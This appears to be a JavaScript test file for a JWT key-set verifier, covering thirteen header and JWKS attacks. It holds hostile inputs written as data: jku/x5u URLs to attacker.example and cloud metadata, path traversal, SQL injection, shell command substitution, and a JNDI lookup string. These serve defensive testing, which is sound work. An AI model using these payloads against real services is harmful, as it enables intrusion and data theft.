// Attacks 21 to 33: keys that a token brings along, names, and key sets that are not what they should be.

import assert from 'node:assert/strict';
import { inspectJwks } from 'tokenward';
import { b64u, claims, keyFor, newKeyFor, NONCE, token } from '../../package/support/tokens.mjs';
import { curves, smallPoint, toBytes, toNumber } from './arithmetic.mjs';
import { called, header, key, keyBeside, mistake, presented, unusableKey, verifierOf } from './cases.mjs';

const attacker = newKeyFor('ES256');
const other = newKeyFor('ES256');
const rsa = keyFor('RS256');
const set = (...keys) => ({ options: { jwks: { keys } } });
const named = (kid, signer = key) => token(signer, { header: { kid } });

// ───────────────────────────── 21, 22 ─────────────────────────────

const own = { ...attacker.jwk, kid: 'mine', use: 'sig', alg: 'ES256' };
const url = 'https://attacker.example/keys.json';
const offers = {
  jwk: own, jku: url, x5u: url, x5c: [attacker.publicKey.export({ format: 'der', type: 'spki' }).toString('base64')], x5t: b64u(Buffer.alloc(20, 1)),
    'x5t#S256': b64u(Buffer.alloc(32, 1)),
};
const offering = (names) => Object.fromEntries(names.map((name) => [name, offers[name]]));
/** Nothing may be fetched: the core cannot, and this proves it. */
function withoutNetwork(run) {
  const given = globalThis.fetch;
  globalThis.fetch = () => assert.fail('something was fetched');
  try {
    return run();
  } finally {
    globalThis.fetch = given;
  }
}
const offered = (names) => [
  presented(`${names}: signed by the key that is offered`, 'signature_invalid', token(attacker, { header: offering(names) }), { rule: 'IDT-06' }),
  presented(`${names}: with the kid of the key that is offered`, 'key_not_found', token(attacker, { header: { ...offering(names), kid: 'mine' } }),
    { ...set({ ...key.jwk, kid: 'a' }), rule: 'JOSE-27' }),
  presented(`${names}: signed by the issuer`, 'accept', token(key, { header: offering(names) }), { warnings: ['header_key_ignored'] }),
].map((entry) => ({ ...entry, run: () => withoutNetwork(entry.run) }));
const embedded = [
  ...offered(['jwk']),
  presented('jwk with the private part', 'signature_invalid', token(attacker, { header: { jwk: attacker.privateKey.export({ format: 'jwk' }) } })),
  presented('jwk is a secret', 'alg_not_allowed', token(attacker, { header: { alg: 'HS256', jwk: { kty: 'oct', k: b64u('secret') } } })),
  presented('jwk is not even a key', 'signature_invalid', token(attacker, { header: { jwk: 5 } })),
];
const remote = [['jku'], ['x5u'], ['x5c'], ['x5t'], ['x5t#S256'], ['jku', 'x5u', 'x5c', 'x5t', 'x5t#S256', 'jwk']].flatMap(offered);
const internal = ['http://169.254.169.254/latest/meta-data', 'file:///etc/passwd', 'http://localhost:8080/', '//attacker.example', 5, null]
  .map((jku) => header(`jku ${JSON.stringify(jku)}`, 'accept', { jku }, { warnings: ['header_key_ignored'] }));

// ───────────────────────────── 23 to 26 ─────────────────────────────

const injections = ['../../../../dev/null', '/etc/passwd', 'C:\\Windows\\win.ini', "' OR '1'='1", "x' UNION SELECT 'secret'--", '$(id)', '`id`', '; id',
  '| cat /etc/passwd',
  '${jndi:ldap://attacker.example}', '__proto__', 'constructor', 'toString', '0', '', ' ', 'a\0', 'A', 'a ', '\uff41', 'á', '%61', '*', '.',
    'http://attacker.example/key', '\u202e', 'a\r\nX: y'];
const kids = [
  ...injections.map((kid) => presented(`kid ${JSON.stringify(kid)}`, 'key_not_found', named(kid), { ...set({ ...key.jwk, kid: 'a' }), rule: 'JOSE-27' })),
  ...injections.filter((kid) => !kid.includes('\0')).map((kid) => presented(`a key is really called ${JSON.stringify(kid)}`, 'accept', named(kid),
    set({ ...key.jwk, kid }))),
  ...[1, 0, 1.5, true, false, null, {}, { toString: 'a' }, ['a'], []]
    .map((kid) => presented(`kid ${JSON.stringify(kid)}`, 'invalid_header', named(kid), { ...set({ ...key.jwk, kid: 'a' }), rule: 'JOSE-06' })),
  presented('a kid of 1024 bytes', 'accept', named('k'.repeat(1024)), set({ ...key.jwk, kid: 'k'.repeat(1024) })),
  presented('a kid of 1025 bytes', 'invalid_header', named('k'.repeat(1025)), set({ ...key.jwk, kid: 'a' })),
  presented('a kid of a million bytes', 'token_too_large', named('k'.repeat(1_000_000))),
  ...[1, null, {}, ['a'], 'k'.repeat(1025)].map((kid) => called(`a key of the set is called ${String(JSON.stringify(kid)).slice(0, 20)}`, 'invalid_jwks',
    () => verifierOf({ jwks: { keys: [{ ...key.jwk, kid }] } }))),
];
const a = { ...key.jwk, kid: 'a' };
const b = { ...other.jwk, kid: 'b' };
const unknown = [
  presented('a kid that is not in the set', 'key_not_found', named('c'), { ...set(a, b), rule: 'JOSE-27' }),
  presented('a kid, and the only key has none', 'key_not_found', named('a'), { ...set(key.jwk), rule: 'JOSE-27' }),
  presented('a kid of a key of another type', 'key_alg_mismatch', named('r'), { ...set(a, { ...rsa.jwk, kid: 'r' }), rule: 'JOSE-18' }),
  presented('a kid of a key that did not sign', 'signature_invalid', named('b'), { ...set(a, b), rule: 'IDT-06' }),
];
const nameless = [
  presented('one key', 'accept', token(key), set(key.jwk)),
  presented('one key with a kid', 'accept', token(key), set(a)),
  presented('one key that fits', 'accept', token(key), set(a, { ...rsa.jwk, kid: 'r' }, { ...keyFor('ES384').jwk, kid: 'e' })),
  presented('two keys', 'kid_required', token(key), { ...set(a, b), rule: 'JOSE-28' }),
  presented('two keys without kid', 'kid_required', token(key), { ...set(key.jwk, other.jwk), rule: 'JOSE-28' }),
  presented('a key with and one without kid', 'kid_required', token(key), { ...set(a, other.jwk), rule: 'JOSE-28' }),
  presented('the same key twice', 'kid_required', token(key), { ...set(key.jwk, key.jwk), rule: 'JOSE-28' }),
  presented('two keys, one for another alg', 'accept', token(rsa), set(rsa.jwk, { ...rsa.jwk, alg: 'PS512' })),
  presented('no key that fits', 'key_alg_mismatch', token(rsa), { ...set(a), rule: 'JOSE-18' }),
];
const twice = [
  presented('of two types', 'accept', named('a'), set({ ...rsa.jwk, kid: 'a' }, a)),
  presented('of two algorithms', 'accept', named('a', rsa), set({ ...rsa.jwk, alg: 'PS256', kid: 'a' }, { ...rsa.jwk, alg: 'RS256', kid: 'a' })),
  presented('of two uses', 'accept', named('a'), set({ ...other.jwk, use: 'enc', kid: 'a' }, { ...a, use: 'sig' })),
  presented('of one kind: each is tried', 'accept', named('a'), set({ ...other.jwk, kid: 'a' }, a)),
  presented('of one kind, in the other order', 'accept', named('a'), set(a, { ...other.jwk, kid: 'a' })),
  presented('of one kind, none of them signed', 'signature_invalid', named('a', attacker), { ...set(a, { ...other.jwk, kid: 'a' }), rule: 'IDT-06' }),
  presented('five of one kind: no choice', 'key_not_found', named('a'),
    { ...set(a, ...Array.from({ length: 4 }, () => ({ ...newKeyFor('ES256').jwk, kid: 'a' }))), rule: 'JOSE-27' }),
];

// ───────────────────────────── 27, 28 ─────────────────────────────

const uses = [
  ...[{ use: 'enc' }, { use: 'ENC' }, { use: 'Sig' }, { use: '' }, { use: null }, { use: ['sig'] }, { use: 1 }, { key_ops: ['encrypt'] }, { key_ops: ['sign'] },
    { key_ops: [] },
    { key_ops: 'verify' }, { key_ops: ['Verify'] }, { key_ops: [1] }, { key_ops: null }, { key_ops: ['verify', 'verify'] }, { use: 'enc', key_ops: ['verify'] },
    { use: 'sig', key_ops: ['encrypt'] }, { use: 'sig', key_ops: ['verify', 'deriveKey'] },
  ].flatMap((members) => keyBeside(JSON.stringify(members), 'key_use_mismatch', { ...key.jwk, ...members }, { rule: 'JOSE-20' })),
  ...[{ use: 'sig' }, { key_ops: ['verify'] }, { key_ops: ['sign', 'verify'] }, { use: 'sig', key_ops: ['verify'] }]
    .flatMap((members) => keyBeside(JSON.stringify(members), 'accept', { ...key.jwk, ...members })),
];
const foreign = [
  ...unusableKey('an unknown kty', 'key_not_supported', { kty: 'new', x: 'AAAA' }),
  ...unusableKey('kty in another case', 'key_not_supported', { ...key.jwk, kty: 'ec' }),
  ...unusableKey('an unknown curve', 'key_not_supported', { ...key.jwk, crv: 'P-255' }),
  ...unusableKey('no kty', 'invalid_key', { ...key.jwk, kty: undefined }),
  ...unusableKey('no x', 'invalid_key', { ...key.jwk, x: undefined }),
  ...unusableKey('x is a number', 'invalid_key', { ...key.jwk, x: 5 }),
  ...unusableKey('x with padding', 'invalid_key', { ...key.jwk, x: `${key.jwk.x}=` }),
  ...[null, 5, 'key', [], true].map((member) => presented(`${JSON.stringify(member)} for a key`, 'accept', named('a'), set(member, a))),
  presented('members nobody knows', 'accept', named('a'), set({ ...a, 'x-new': { deep: [1] }, exp: 5 })),
  presented('members of the set nobody knows', 'accept', named('a'), { options: { jwks: { keys: [a], issuer: 'https://attacker.example', alg: 'none' } } }),
];

// ───────────────────────────── 29 ─────────────────────────────

const { x: smallX, y: smallY, p } = smallPoint();
const p521 = keyFor('ES512');
const point = (x, y, crv = 'P-256', size = 32) => ({ kty: 'EC', crv, x: b64u(typeof x === 'bigint' ? toBytes(x, size) : x),
  y: b64u(typeof y === 'bigint' ? toBytes(y, size) : y) });
const [x, y] = ['x', 'y'].map((name) => Buffer.from(key.jwk[name], 'base64url'));
const [x521, y521] = ['x', 'y'].map((name) => toNumber(Buffer.from(p521.jwk[name], 'base64url')));
const bad = (name, jwk, more) => unusableKey(name, 'invalid_key', jwk, { rule: 'JOSE-24', ...more });
const points = [
  called('a point with a small x is a key', 'accept', () => assert.equal(inspectJwks({ keys: [point(smallX, smallY)] }).usable.length, 1)),
  ...bad('the same point with x + p', point(smallX + p, smallY)),
  ...bad('x + p on P-521', point(x521 + curves.ES512.p, y521, 'P-521', 66), { signer: p521 }),
  ...bad('y + p on P-521', point(x521, y521 + curves.ES512.p, 'P-521', 66), { signer: p521 }),
  ...bad('off the curve', point(x, x)),
  ...bad('y + 1', point(x, toNumber(y) + 1n)),
  ...bad('the origin', point(0n, 0n)),
  ...bad('x = p', point(p, toNumber(y))),
  ...bad('the largest numbers', point(2n ** 256n - 1n, 2n ** 256n - 1n)),
  ...bad('x and y exchanged', point(y, x)),
  ...bad('a leading zero', point(Buffer.concat([Buffer.from([0]), x]), y)),
  ...bad('a byte less', point(x.subarray(1), y)),
  ...bad('no bytes', point(Buffer.alloc(0), Buffer.alloc(0))),
  ...bad('a missing leading zero', withoutLeadingZero()),
  ...bad('a compressed point in x', point(Buffer.concat([Buffer.from([2]), x]), Buffer.alloc(0))),
];

/** A key whose x begins with a zero, which a careless publisher leaves out. */
function withoutLeadingZero() {
  for (;;) {
    const { jwk } = newKeyFor('ES256');
    const bytes = Buffer.from(jwk.x, 'base64url');
    if (bytes[0] === 0) return { ...jwk, x: b64u(bytes.subarray(1)) };
  }
}

// ───────────────────────────── 30 to 33 ─────────────────────────────

const secretBytes = b64u(Buffer.alloc(32, 7));
const privates = [
  ['a symmetric key', { kty: 'oct', k: secretBytes }],
  ['a symmetric key without k', { kty: 'oct' }],
  ['a private EC key', key.privateKey.export({ format: 'jwk' })],
  ['a private RSA key', rsa.privateKey.export({ format: 'jwk' })],
  ['a private Ed25519 key', keyFor('EdDSA').privateKey.export({ format: 'jwk' })],
  ...['d', 'p', 'q', 'dp', 'dq', 'qi', 'oth', 'k', 'priv'].map((member) => [`${member} beside a public key`, { ...key.jwk, [member]: secretBytes }]),
].flatMap(([name, jwk]) => [
  called(name, 'private_key_in_jwks', () => verifierOf({ jwks: { keys: [key.jwk, jwk] } }), { rule: 'JOSE-30', secrets: [secretBytes, jwk.d].filter(Boolean) }),
  called(`${name}, inspected`, 'private_key_in_jwks', () => inspectJwks({ keys: [jwk] }), { rule: 'JOSE-30', secrets: [secretBytes, jwk.d].filter(Boolean) }),
  called(`${name}, after a rotation`, 'private_key_in_jwks', () => verifierOf().updateJwks({ keys: [jwk] }), { rule: 'JOSE-30', secrets: [secretBytes] }),
]);

const text = JSON.stringify({ ...key.jwk, kid: 'odd' });
const duplicated = (members) => `{"keys":[${text.slice(0, -1)},${members}},${JSON.stringify(a)}]}`;
const duplicates = [
  ...['"x":"AAAA"', `"x":"${key.jwk.x}"`, '"kty":"oct"', '"kid":"odd"', '"\\u0078":"AAAA"', '"new":1,"new":2'].map((members) => presented(
    `${members} once more`, 'duplicate_member', named('odd'), { options: { jwks: duplicated(members) }, rule: 'JOSE-29' })),
  presented('the key beside it', 'accept', named('a'), { options: { jwks: duplicated('"x":"AAAA"') } }),
  called('keys once more', 'duplicate_member', () => verifierOf({ jwks: `{"keys":[${text}],"keys":[]}` })),
  called('another member of the set once more', 'duplicate_member', () => verifierOf({ jwks: `{"a":1,"keys":[${text}],"a":1}` })),
];

const many = (count) => ({ keys: Array.from({ length: count }, (_, index) => ({ ...other.jwk, kid: `k${index}` })) });
const sets = [
  ...['[]', '""', 'null', '5', '', '{', '{}', '{"keys":{}}', '{"keys":null}', '{"keys":"x"}', '{"keys":[]}', '{"Keys":[]}', '{"keys":[{}]}', '{"keys":[[]]}',
    'https://op.example/jwks', '{"keys":[]}x']
    .map((jwks) => called(`the text ${JSON.stringify(jwks)}`, 'invalid_jwks', () => verifierOf({ jwks }))),
  mistake('a list of keys', 'jwks', () => verifierOf({ jwks: [key.jwk] })),
  ...[{}, { keys: {} }, { keys: null }, { keys: [] }, { keys: [null] }]
    .map((jwks) => called(`the value ${JSON.stringify(jwks)}`, 'invalid_jwks', () => verifierOf({ jwks }))),
  called('10,000 keys', 'invalid_jwks', () => verifierOf({ jwks: many(10_000) }), { rule: 'JOSE-29' }),
  called('1025 keys', 'invalid_jwks', () => verifierOf({ jwks: many(1025) }), { rule: 'JOSE-29' }),
  called('10,000 members that are no keys', 'invalid_jwks', () => verifierOf({ jwks: { keys: Array(10_000).fill(0) } })),
  called('more than a megabyte', 'invalid_jwks', () => verifierOf({ jwks: `{"keys":[${text}],"x":"${'x'.repeat(1_100_000)}"}` })),
  called('too deep', 'json_too_deep', () => verifierOf({ jwks: `{"keys":[${text}],"x":${'['.repeat(40)}${']'.repeat(40)}}` })),
  called('a hundred thousand brackets', 'json_too_deep', () => verifierOf({ jwks: `{"keys":${'['.repeat(100_000)}` })),
  presented('1000 keys', 'accept', named('a'), { options: { jwks: { keys: [...many(999).keys, a] } } }),
];

/** A key that was taken out must not verify any more, whatever it verified before. */
const rotated = (next, given) => () => {
  const verifier = verifierOf({ jwks: { keys: [a] }, cache: {} });
  verifier.verifyIdToken(named('a'), { nonce: NONCE });
  verifier.updateJwks(next);
  return verifier.verifyIdToken(given, { nonce: NONCE });
};
const signedBy = token(other, { payload: claims(), header: { kid: 'b' } });
const rotation = [
  called('the old key is gone', 'key_not_found', rotated({ keys: [b] }, named('a')), { rule: 'JOSE-27', secrets: [named('a')] }),
  called('the new key is there', 'accept', rotated({ keys: [b] }, signedBy)),
  called('another key under the old name', 'signature_invalid', rotated({ keys: [{ ...other.jwk, kid: 'a' }] }, named('a'))),
  called('a set that is refused changes nothing', 'accept', () => {
    const verifier = verifierOf({ jwks: { keys: [a] } });
    for (const wrong of ['{', { keys: [] }, { keys: [attacker.privateKey.export({ format: 'jwk' })] }]) assert.throws(() => verifier.updateJwks(wrong),
      { name: 'TokenError' });
    return verifier.verifyIdToken(named('a'), { nonce: NONCE });
  }),
  called('the set is read once', 'accept', () => {
    const mutable = { keys: [structuredClone(a)] };
    const verifier = verifierOf({ jwks: mutable });
    mutable.keys[0] = { ...attacker.jwk, kid: 'a' };
    assert.throws(() => verifier.verifyIdToken(named('a', attacker), { nonce: NONCE }), { code: 'signature_invalid' });
    return verifier.verifyIdToken(named('a'), { nonce: NONCE });
  }),
];

export default [
  { number: 21, attack: 'a key in the header', cases: embedded },
  { number: 22, attack: 'an address or certificate of a key in the header', cases: [...remote, ...internal] },
  { number: 23, attack: 'kid as a path, a query, a command, or no text', cases: kids },
  { number: 24, attack: 'a kid nobody knows', cases: unknown },
  { number: 25, attack: 'no kid, and several keys', cases: nameless },
  { number: 26, attack: 'one kid for two keys', cases: twice },
  { number: 27, attack: 'a key for another use', cases: uses },
  { number: 28, attack: 'a bad key beside a good one', cases: foreign },
  { number: 29, attack: 'points that are none', cases: points },
  { number: 30, attack: 'private and symmetric keys in a key set', cases: privates },
  { number: 31, attack: 'a member of a key twice', cases: duplicates },
  { number: 32, attack: 'sets that are none, and sets that cost time', cases: sets },
  { number: 33, attack: 'a key set that keeps removed keys', cases: rotation },
];
